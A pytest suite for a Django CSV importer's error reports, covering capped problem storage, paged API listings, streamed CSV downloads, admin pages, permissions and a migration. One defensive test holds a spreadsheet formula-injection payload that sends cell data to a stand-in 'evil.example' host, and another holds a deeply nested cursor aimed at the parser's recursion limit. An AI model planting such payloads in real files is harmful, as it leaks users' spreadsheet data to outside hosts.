"""A job's report stays small however many problems its CSV had (issue #22).

A job shows its counts and its first CARS_JOB_REPORT_PREVIEW rejected rows and image
failures; it stores at most CARS_JOB_MAX_PROBLEMS of each kind, pages them by keyset at
`/api/imports/<id>/errors/` and streams them as CSV at `errors.csv`; the admin shows the
first ones and links there. `import_csv --report` still lists every one (SPEC §4).

On the real database through the real URL stack (Django's test client); the big jobs are
built with the importer's own writer (imports.problems), one real import is run.
"""

import base64
import csv
import hashlib
import io
import json
import re
import time
import tracemalloc

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.test import Client
from rest_framework.authtoken.models import Token

from imports import tasks
from imports.lifecycle import claim_chunk as _claim
from imports.lifecycle import create_job
from imports.models import ImageChunk, ImportJob, ImportProblem
from imports.pictures.pipeline import ImageItem
from imports.problems import preview, store
from imports.report import ImageProblem, RowProblem
from imports.runner import _run_claimed, run_chunk
from imports.runner import run_job as run_row_phase
from tests.support.catalog import csv_bytes

pytestmark = pytest.mark.django_db

Kind = ImportProblem.Kind
MB = 1_000_000
_LINK = re.compile(r'<([^>]*)>;\s*rel="([^"]+)"')


def links(response) -> dict[str, str]:
    return {rel: url for url, rel in _LINK.findall(response.get("Link", ""))}


def rejected(line: int) -> RowProblem:
    return RowProblem(line, "missing_title", "title is empty")


def finished_job(*, rejected_rows: int, image_failures: int = 0) -> ImportJob:
    """A job as the importer leaves one after that many problems: the first ones inline,
    at most CARS_JOB_MAX_PROBLEMS of each kind stored (the rejected rows by one INSERT …
    SELECT, since half a million model instances take the test's time and memory)."""
    job = create_job(source="https://example.com/bad.csv")
    failures = [
        ImageProblem(n + 2, str(n), f"https://img.example/{n}.jpg", "http_error", "HTTP 404")
        for n in range(image_failures)
    ]
    stored = min(rejected_rows, django_settings.CARS_JOB_MAX_PROBLEMS)
    table = ImportProblem._meta.db_table
    if stored:
        with connection.cursor() as cursor:
            cursor.execute(
                f"""
                WITH RECURSIVE n(line) AS (
                    SELECT 2 UNION ALL SELECT line + 1 FROM n WHERE line < %s
                )
                INSERT INTO {table} (job_id, kind, line, key, url, reason, message)
                SELECT %s, %s, line, '', '', 'missing_title', 'title is empty' FROM n
                """,
                [stored + 1, job.pk, Kind.REJECTED_ROW],
            )
    ImportJob.objects.filter(pk=job.pk).update(
        status=ImportJob.Status.SUCCEEDED,
        counts={"rejected": rejected_rows, "images_failed": image_failures},
        rejected_rows=preview([rejected(line) for line in range(2, min(stored, 1_000) + 2)]),
        rejected_rows_stored=stored,
        image_failures=preview(failures),
        image_failures_stored=store(job.pk, Kind.IMAGE_FAILURE, failures),
        image_failure_reasons={"http_error": image_failures} if image_failures else {},
    )
    return ImportJob.objects.get(pk=job.pk)


def timed_get(client: Client, url: str):
    started = time.monotonic()
    response = client.get(url)
    return response, time.monotonic() - started


def walk(client: Client, url: str) -> tuple[list[dict], float]:
    """Every item of a paged list, following rel="next"; and the slowest page's seconds."""
    items, slowest = [], 0.0
    while url:
        response, seconds = timed_get(client, url)
        assert response.status_code == 200, response.content
        items += response.json()
        slowest = max(slowest, seconds)
        url = links(response).get("next")
    return items, slowest


def csv_download(client: Client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response.streaming
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --------------------------------------------------------------------------- big jobs


def test_a_job_of_500k_rejected_rows_answers_small_and_fast_and_pages_every_row_once(
    admin_client, settings
):
    """Before: the detail was every row, 34 MB in 5.8 s (bench/job_report.py)."""
    settings.CARS_JOB_MAX_PROBLEMS = 500_000  # an operator who keeps them all
    job = finished_job(rejected_rows=500_000)

    detail, seconds = timed_get(admin_client, f"/api/imports/{job.pk}/")
    assert detail.status_code == 200
    assert len(detail.content) < MB and seconds < 1.0, (len(detail.content), seconds)
    body = detail.json()
    assert body["counts"]["rejected"] == 500_000
    assert [row["line"] for row in body["rejected_rows"]] == list(range(2, 102))
    assert body["rejected_rows"][0] == {
        "line": 2,
        "reason": "missing_title",
        "message": "title is empty",
    }
    assert body["problems"] == {
        "rejected_rows": {"stored": 500_000, "not_stored": 0},
        "image_failures": {"stored": 0, "not_stored": 0},
        "max_stored": 500_000,
        "truncated": True,
        "url": f"http://testserver/api/imports/{job.pk}/errors/",
        "csv_url": f"http://testserver/api/imports/{job.pk}/errors.csv",
    }
    listed, seconds = timed_get(admin_client, "/api/imports/")
    assert len(listed.content) < MB and seconds < 1.0, (len(listed.content), seconds)

    assert admin_client.get(body["problems"]["url"])["X-Total-Count"] == "500000"
    problems, slowest = walk(admin_client, body["problems"]["url"] + "?limit=1000")
    assert [p["line"] for p in problems] == list(range(2, 500_002)), "each once, in order"
    assert problems[-1] == {
        "kind": "rejected_row",
        "line": 500_001,
        "key": None,
        "url": None,
        "reason": "missing_title",
        "message": "title is empty",
    }
    assert slowest < 1.0, "a deep page costs what the first one does"

    # The CSV download has every row, and streams: its memory does not grow with them.
    response = admin_client.get(body["problems"]["csv_url"])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    received, size = hashlib.sha256(), 0
    tracemalloc.start()
    try:
        for chunk in response.streaming_content:
            received.update(chunk)
            size += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    expected = hashlib.sha256(b"kind,line,key,url,reason,message\r\n")
    for line in range(2, 500_002):
        expected.update(b"rejected_row,%d,,,missing_title,title is empty\r\n" % line)
    assert received.hexdigest() == expected.hexdigest()
    assert peak < 10 * MB < size, f"peak {peak / MB:.1f} MB streaming {size / MB:.1f} MB"


def test_an_import_of_20k_bad_rows_stores_the_cap_and_counts_the_rest(
    admin_client, settings, tmp_path
):
    settings.CARS_JOB_MAX_PROBLEMS = 5_000
    source = tmp_path / "cars.csv"
    rows = [[str(n), "", "no title", ""] for n in range(20_000)]
    rows += [["img", "Broken", "a missing picture", "gone.jpg"], ["ok", "Fine", "", ""]]
    source.write_bytes(csv_bytes(rows))
    report_file = tmp_path / "report.json"

    call_command(
        "import_csv", str(source), "--no-progress", "--report", str(report_file),
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip

    report = json.loads(report_file.read_text())
    assert len(report["rejected_rows"]) == 20_000, "the --report file lists every one"
    job = admin_client.get("/api/imports/").json()[0]
    assert (job["counts"]["rejected"], job["counts"]["images_failed"]) == (20_000, 1)
    assert job["rejected_rows"] == report["rejected_rows"][:100]
    assert job["image_failures"] == report["image_failures"]
    assert job["problems"]["rejected_rows"] == {"stored": 5_000, "not_stored": 15_000}
    assert job["problems"]["image_failures"] == {"stored": 1, "not_stored": 0}
    assert (job["problems"]["max_stored"], job["problems"]["truncated"]) == (5_000, True)

    pages, _ = walk(admin_client, job["problems"]["url"] + "?kind=rejected_row&limit=700")
    assert [{k: p[k] for k in ("line", "reason", "message")} for p in pages] == report[
        "rejected_rows"
    ][:5_000]
    [failure] = admin_client.get(job["problems"]["url"] + "?kind=image_failure").json()
    assert failure == {"kind": "image_failure", **report["image_failures"][0]}

    table = csv_download(admin_client, job["problems"]["csv_url"])
    assert table[0] == ["kind", "line", "key", "url", "reason", "message"]
    assert len(table) == 1 + 5_000 + 1
    assert table[1] == ["rejected_row", "2", "", "", "missing_title", "title is empty"]
    assert table[-1][:5] == ["image_failure", "20002", "img", "gone.jpg", "unreachable"]
    assert ImportProblem.objects.count() == 5_001


def test_over_the_cap_image_failures_are_still_counted_by_reason_in_the_metrics(
    client, admin_client, settings, tmp_path
):
    settings.CARS_JOB_MAX_PROBLEMS = 2
    source = tmp_path / "cars.csv"
    source.write_bytes(csv_bytes([[str(n), f"Car {n}", "", f"gone-{n}.jpg"] for n in range(5)]))

    call_command("import_csv", str(source), "--no-progress", stdout=io.StringIO())

    job = admin_client.get("/api/imports/").json()[0]
    assert job["counts"]["images_failed"] == 5
    assert job["problems"]["image_failures"] == {"stored": 2, "not_stored": 3}
    assert [f["line"] for f in job["image_failures"]] == [2, 3]
    metrics = client.get("/metrics").content.decode()
    assert 'image_backend_import_image_failures_total{reason="unreachable"} 5.0' in metrics


# --------------------------------------------------------------------------- queued jobs


@pytest.fixture
def sent_chunks(monkeypatch) -> list[int]:
    """The chunk tasks a row phase sends, instead of a broker."""
    sent: list[int] = []
    monkeypatch.setattr(tasks.process_image_chunk, "delay", sent.append)
    return sent


def queued_job(tmp_path, pictures: int) -> ImportJob:
    source = tmp_path / "cars.csv"
    rows = [[str(n), f"Car {n}", "", f"gone-{n}.jpg"] for n in range(pictures)]
    source.write_bytes(csv_bytes([*rows, ["x", "", "no title", ""]]))
    job = create_job(source=str(source))
    ImportJob.objects.filter(pk=job.pk).update(queued=True)
    run_row_phase(job.pk)
    return ImportJob.objects.get(pk=job.pk)


def test_a_chunk_delivered_again_or_finished_by_another_worker_stores_its_failures_once(
    admin_client, settings, tmp_path, sent_chunks
):
    settings.CARS_IMAGE_CHUNK = 2
    job = queued_job(tmp_path, pictures=4)
    first, second = sent_chunks
    assert ImportProblem.objects.filter(kind=Kind.REJECTED_ROW).count() == 1  # row phase

    # A worker takes the first chunk and stalls; another takes it over and finishes it.
    stalled = _claim(first, token="elsewhere:1:stalled")
    ImageChunk.objects.filter(pk=first).update(heartbeat_at=stalled.heartbeat_at.replace(year=2000))
    run_chunk(first)
    assert ImageChunk.objects.get(pk=first).status == ImageChunk.Status.DONE
    items = [ImageItem.from_json(value) for value in stalled.items]
    _run_claimed(stalled, "elsewhere:1:stalled", items)  # it wakes up: its work is discarded
    run_chunk(first)  # and the broker delivers the message again
    run_chunk(second)
    run_chunk(second)  # the last chunk closed the job: nothing to do

    job.refresh_from_db()
    assert job.status == ImportJob.Status.SUCCEEDED
    failures = ImportProblem.objects.filter(job=job, kind=Kind.IMAGE_FAILURE)
    assert sorted(failures.values_list("line", flat=True)) == [2, 3, 4, 5], "once each"
    assert job.image_failures_stored == 4
    assert job.image_failure_reasons == {"unreachable": 4}
    body = admin_client.get(f"/api/imports/{job.pk}/").json()
    assert [f["line"] for f in body["image_failures"]] == [2, 3, 4, 5], "in line order"
    assert body["problems"]["image_failures"] == {"stored": 4, "not_stored": 0}
    assert body["problems"]["truncated"] is False


def test_the_cap_holds_across_the_chunks_of_a_queued_job(settings, tmp_path, sent_chunks):
    settings.CARS_IMAGE_CHUNK = 2
    settings.CARS_JOB_MAX_PROBLEMS = 3
    job = queued_job(tmp_path, pictures=6)

    for chunk_id in sent_chunks:
        run_chunk(chunk_id)

    job.refresh_from_db()
    assert job.status == ImportJob.Status.SUCCEEDED
    assert job.counts["images_failed"] == 6
    assert job.image_failure_reasons == {"unreachable": 6}
    assert job.image_failures_stored == 3
    assert ImportProblem.objects.filter(job=job, kind=Kind.IMAGE_FAILURE).count() == 3
    assert [f["line"] for f in job.image_failures] == [2, 3, 4]


# --------------------------------------------------------------------------- the admin


def test_the_admin_page_of_a_big_job_shows_the_first_rows_and_links_to_all(admin_client):
    job = finished_job(rejected_rows=500_000, image_failures=3)  # 10,000 rows stored

    page = admin_client.get(f"/admin/imports/importjob/{job.pk}/change/")

    assert page.status_code == 200
    html = page.content.decode()
    assert len(page.content) < 100_000
    assert html.count("<td>missing_title</td>") == 100
    assert "The first 100 of 500000. All 10000 stored:" in html
    assert f'href="/api/imports/{job.pk}/errors/?kind=rejected_row"' in html
    assert f'href="/api/imports/{job.pk}/errors.csv?kind=rejected_row" download' in html
    assert "490000 more were not stored (over CARS_JOB_MAX_PROBLEMS, 10000 per job)" in html
    assert "The first 3 of 3. All 3 stored:" in html
    assert f'href="/api/imports/{job.pk}/errors.csv?kind=image_failure" download' in html
    # The links work with the admin's session.
    rows = admin_client.get(f"/api/imports/{job.pk}/errors/?kind=rejected_row")
    assert rows.status_code == 200 and rows["X-Total-Count"] == "10000"
    changelist = admin_client.get("/admin/imports/importjob/")
    assert changelist.status_code == 200 and len(changelist.content) < 100_000


def test_deleting_a_big_job_in_the_admin_counts_its_problems_instead_of_listing_them(
    admin_client,
):
    job = finished_job(rejected_rows=500_000, image_failures=3)  # 10,003 problems stored
    url = f"/admin/imports/importjob/{job.pk}/delete/"

    page = admin_client.get(url)

    assert page.status_code == 200
    assert len(page.content) < 100_000
    html = page.content.decode()
    assert f'Import job: <a href="/admin/imports/importjob/{job.pk}/change/">' in html
    assert "<li>10003 import problems</li>" in html
    action = admin_client.post(
        "/admin/imports/importjob/",
        {"action": "delete_selected", "_selected_action": [job.pk]},
    )
    assert action.status_code == 200 and "10003 import problems" in action.content.decode()

    assert admin_client.post(url, {"post": "yes"}).status_code == 302
    assert not ImportJob.objects.filter(pk=job.pk).exists()
    assert not ImportProblem.objects.exists()


# --------------------------------------------------------------------------- hostile input


def test_the_csv_download_is_an_attachment_that_no_spreadsheet_runs_as_formulas(admin_client):
    job = finished_job(rejected_rows=0)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    hostile = [
        ImageProblem(2, formula, "@SUM(A1)", "http_error", "+1"),
        ImageProblem(3, "-2+3", "\tx.jpg", "http_error", 'a "quoted",\nmultiline message'),
    ]
    store(job.pk, Kind.IMAGE_FAILURE, hostile)

    response = admin_client.get(f"/api/imports/{job.pk}/errors.csv")

    assert response["Content-Disposition"] == f'attachment; filename="import-{job.pk}-errors.csv"'
    table = csv_download(admin_client, f"/api/imports/{job.pk}/errors.csv")
    assert table[1:] == [
        ["image_failure", "2", "'" + formula, "'@SUM(A1)", "http_error", "'+1"],
        ["image_failure", "3", "'-2+3", "'\tx.jpg", "http_error", 'a "quoted",\nmultiline message'],
    ]
    # The JSON pages give what the CSV said, as it said it.
    listed = admin_client.get(f"/api/imports/{job.pk}/errors/").json()
    assert [p["key"] for p in listed] == [formula, "-2+3"]


@pytest.mark.parametrize("suffix", ["errors/", "errors.csv"])
def test_a_jobs_problems_are_for_those_who_may_read_the_job(
    client, django_user_model, admin_client, suffix
):
    job = finished_job(rejected_rows=3)
    url = f"/api/imports/{job.pk}/{suffix}"

    anonymous = client.get(url)
    assert anonymous.status_code == 401 and anonymous["WWW-Authenticate"] == "Token"
    staff = django_user_model.objects.create_user("staffer", password="pw", is_staff=True)
    token = Token.objects.create(user=staff).key
    auth = {"authorization": f"Token {token}"}
    refused = client.get(url, headers=auth)
    assert refused.status_code == 403
    assert refused["Content-Type"] == "application/json"
    staff.user_permissions.add(Permission.objects.get(codename="view_importjob"))
    assert client.get(url, headers=auth).status_code == 200

    accept = "text/csv" if suffix.endswith(".csv") else "application/json"
    missing = admin_client.get(f"/api/imports/{job.pk + 1}/{suffix}", HTTP_ACCEPT=accept)
    assert missing.status_code == 404
    assert missing["Content-Type"] == "application/json" and missing.json()["detail"]
    assert admin_client.get(url, {"kind": "everything"}).status_code == 400


@pytest.mark.parametrize(
    "query",
    [
        "cursor=%%%",
        "cursor=WyJ4IiwyLDNd",  # ["x",2,3]
        "cursor=WzEsMl0",  # [1,2]
        "cursor=WzEsMiwtM10",  # [1,2,-3]
        pytest.param(  # past the JSON parser's recursion limit (a 500 until core paged it)
            "cursor=" + base64.urlsafe_b64encode(b"[" * 50_000 + b"]" * 50_000).decode(),
            id="cursor=deeply-nested",
        ),
        "offset=10",
        "limit=0",
        "limit=5000",
        "kind=",
    ],
)
def test_bad_paging_parameters_of_the_problems_answer_400(admin_client, query):
    job = finished_job(rejected_rows=3)

    response = admin_client.get(f"/api/imports/{job.pk}/errors/?{query}")

    assert response.status_code == 400, response.content
    assert response.json()["detail"]


# --------------------------------------------------------------------------- migration


@pytest.mark.django_db(transaction=True)
def test_the_migration_moves_the_json_lists_into_rows_within_the_cap(settings):
    settings.CARS_JOB_MAX_PROBLEMS = 3
    settings.CARS_JOB_REPORT_PREVIEW = 2
    before = [("imports", "0002_distributed_jobs")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old = executor.loader.project_state(before).apps
    Job, Chunk = old.get_model("imports", "ImportJob"), old.get_model("imports", "ImageChunk")
    failure = {"key": "k", "url": "u.jpg", "reason": "http_error", "message": "HTTP 404"}
    ended = Job.objects.create(
        source="a.csv",
        status="succeeded",
        counts={"rejected": 5, "images_failed": 4},
        rejected_rows=[{"line": n, "reason": "missing_title", "message": "m"} for n in range(2, 7)],
        image_failures=[{"line": n, **failure} for n in (9, 7, 8, 10)],
    )
    running = Job.objects.create(source="b.csv", status="running", queued=True)
    Chunk.objects.create(
        job=running, index=0, items=[], status="done",
        image_failures=[{"line": 3, **failure, "reason": "too_large"}],
    )  # fmt: skip

    executor = MigrationExecutor(connection)
    executor.migrate(executor.loader.graph.leaf_nodes())

    ended = ImportJob.objects.get(pk=ended.pk)
    assert [r["line"] for r in ended.rejected_rows] == [2, 3]
    assert [f["line"] for f in ended.image_failures] == [7, 8]
    assert (ended.rejected_rows_stored, ended.image_failures_stored) == (3, 3)
    assert ended.image_failure_reasons == {"http_error": 4}
    stored = ImportProblem.objects.filter(job=ended).order_by("kind", "line")
    assert list(stored.values_list("kind", "line")) == [
        (1, 2),
        (1, 3),
        (1, 4),
        (2, 7),
        (2, 8),
        (2, 9),
    ]
    running = ImportJob.objects.get(pk=running.pk)
    assert running.image_failures_stored == 1
    assert ImageChunk.objects.get(job=running).failure_reasons == {"too_large": 1}
    assert ImportProblem.objects.get(job=running).reason == "too_large"
